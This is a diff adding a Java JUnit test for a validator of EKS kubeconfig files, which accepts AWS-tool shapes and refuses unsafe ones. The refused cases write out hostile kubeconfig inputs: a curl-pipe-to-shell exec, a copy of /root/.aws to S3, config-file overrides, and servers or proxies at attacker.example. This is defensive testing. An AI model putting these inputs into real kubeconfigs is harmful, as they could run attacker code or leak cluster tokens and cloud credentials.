@@ -1,0 +1,136 @@
+package spacesbackupidentity.settings;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+import spacesbackupidentity.StackConfig;
+import spacesbackupidentity.StackRun;
+
+import java.util.Optional;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * The kubeconfig shapes EKS tooling writes pass; anything that would run another command, send
+ * the EKS token elsewhere or read a file instead is refused, by place, never by content. The
+ * accepted shapes are what `aws eks update-kubeconfig` (AWS CLI v2, customizations/eks/
+ * update_kubeconfig.py: args [--region, R, eks, get-token, --cluster-name, N, --output, json])
+ * and pulumi-eks (nodejs/eks/cluster.ts, generateKubeconfig: [eks, get-token, --cluster-name, N])
+ * write, with the endpoint form EKS reports (https://ID.gr7.REGION.eks.amazonaws.com).
+ */
+class KubeconfigRulesTest {
+    static final String SECRET = "s3cr3t-canary";
+    static final String SERVER = "https://0123456789ABCDEF0123456789ABCDEF.gr7.us-east-1.eks.amazonaws.com";
+
+    static String kubeconfig(String server, String user) {
+        return """
+                apiVersion: v1
+                kind: Config
+                clusters:
+                - name: acme
+                  cluster:
+                    server: %s
+                    certificate-authority-data: %s
+                contexts:
+                - name: acme
+                  context: {cluster: acme, user: acme}
+                current-context: acme
+                users:
+                - name: acme
+                  user:
+                %s
+                """.formatted(server, SECRET, user.indent(4).stripTrailing());
+    }
+
+    static final String UPDATE_KUBECONFIG_USER = """
+            exec:
+              apiVersion: client.authentication.k8s.io/v1beta1
+              command: aws
+              args: [--region, us-east-1, eks, get-token, --cluster-name, acme, --output, json]
+              env: [{name: AWS_PROFILE, value: deploy}]""";
+
+    static Stream<Arguments> accepted() {
+        return Stream.of(
+                Arguments.of("aws eks update-kubeconfig", kubeconfig(SERVER, UPDATE_KUBECONFIG_USER)),
+                Arguments.of("pulumi-eks", kubeconfig(SERVER + ":443", """
+                        exec:
+                          apiVersion: client.authentication.k8s.io/v1beta1
+                          command: aws
+                          args: [eks, get-token, --cluster-name, acme]""")),
+                Arguments.of("aws-iam-authenticator", kubeconfig(SERVER, """
+                        exec:
+                          command: aws-iam-authenticator
+                          args: [token, -i, acme]""")),
+                Arguments.of("a token", kubeconfig(SERVER, "token: " + SECRET)),
+                Arguments.of("JSON", "{\"apiVersion\": \"v1\", \"kind\": \"Config\", \"clusters\": [{\"name\": \"a\","
+                        + " \"cluster\": {\"server\": \"" + SERVER + "\"}}]}"),
+                Arguments.of("no clusters yet", StackConfig.KUBECONFIG));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("accepted")
+    void kubeconfigsEksToolingWritesPass(String what, String text) {
+        assertThat(KubeconfigRules.problems(text, Optional.of("us-east-1"))).isEmpty();
+    }
+
+    static Stream<Arguments> refused() {
+        return Stream.of(
+                Arguments.of(kubeconfig(SERVER, "exec: {command: sh, args: [-c, 'curl " + SECRET + " | sh']}"),
+                        "users[0].user.exec.command: not aws or aws-iam-authenticator (by name, without a path)"),
+                Arguments.of(kubeconfig(SERVER, "exec: {command: /tmp/aws, args: [eks, get-token]}"),
+                        "users[0].user.exec.command: not aws or aws-iam-authenticator"),
+                Arguments.of(kubeconfig(SERVER, "Exec: {command: sh, args: [-c, id]}"),
+                        "users[0].user.exec.command: not aws"),
+                Arguments.of(kubeconfig(SERVER, "exec: {command: aws, args: [s3, cp, /root/.aws, 's3://x']}"),
+                        "users[0].user.exec.args: do not start with eks get-token"),
+                Arguments.of(kubeconfig(SERVER, "exec: {command: aws, args: [eks, get-token],"
+                                + " env: [{name: AWS_CONFIG_FILE, value: evil.cfg}]}"),
+                        "users[0].user.exec.env[0]: not one of AWS_DEFAULT_REGION, AWS_PROFILE"),
+                Arguments.of(kubeconfig(SERVER, "auth-provider: {name: oidc}"),
+                        "users[0].user.auth-provider: set"),
+                Arguments.of(kubeconfig("https://attacker.example", "token: x"),
+                        "clusters[0].cluster.server: not the EKS API endpoint of the cluster's region us-east-1"),
+                Arguments.of(kubeconfig(SERVER.replace("us-east-1", "us-west-2"), "token: x"),
+                        "clusters[0].cluster.server: not the EKS API endpoint"),
+                Arguments.of(kubeconfig(SERVER.replace("https", "http"), "token: x"),
+                        "clusters[0].cluster.server: expected an https:// URL"),
+                Arguments.of(kubeconfig(SERVER + "\n    insecure-skip-tls-verify: true", "token: x"),
+                        "clusters[0].cluster.insecure-skip-tls-verify: set"),
+                Arguments.of(kubeconfig(SERVER + "\n    proxy-url: http://proxy.attacker.example", "token: x"),
+                        "clusters[0].cluster.proxy-url: set"),
+                Arguments.of("/home/runner/.kube/" + SECRET, "not a kubeconfig object; the provider would read a single"
+                        + " line as the path of a file"),
+                Arguments.of("a: 1\na: " + SECRET, "not readable as YAML or JSON"),
+                Arguments.of("[" + SECRET + "]", "not a kubeconfig object"));
+    }
+
+    @ParameterizedTest(name = "{1}")
+    @MethodSource("refused")
+    void anythingElseIsRefusedByPlaceWithoutItsContent(String text, String problem) {
+        var problems = KubeconfigRules.problems(text, Optional.of("us-east-1"));
+
+        assertThat(problems).anySatisfy(p -> assertThat(p).startsWith(problem));
+        assertThat(problems).noneMatch(p -> p.contains(SECRET) || p.contains("attacker") || p.contains("evil"));
+    }
+
+    @Test
+    void withoutAnEksRegionAnyHttpsServerPasses() {
+        assertThat(KubeconfigRules.problems(kubeconfig("https://k8s.acme.internal:6443", "token: x"),
+                Optional.empty())).isEmpty();
+    }
+
+    /** Through the program: a secret kubeconfig that runs a command fails before anything is registered. */
+    @Test
+    void theProgramRefusesItBeforeRegisteringAnything() {
+        var result = StackRun.of(StackConfig.valid().set("kubeconfig",
+                kubeconfig(SERVER, "exec: {command: sh, args: [-c, 'curl " + SECRET + " | sh']}")).secret("kubeconfig"));
+
+        assertThat(result.error()).get().isInstanceOf(InvalidConfigException.class)
+                .extracting(Throwable::getMessage).asString()
+                .contains("kubeconfig: users[0].user.exec.command: not aws or aws-iam-authenticator")
+                .doesNotContain(SECRET);
+        assertThat(result.registrations()).isEmpty();
+    }
+}
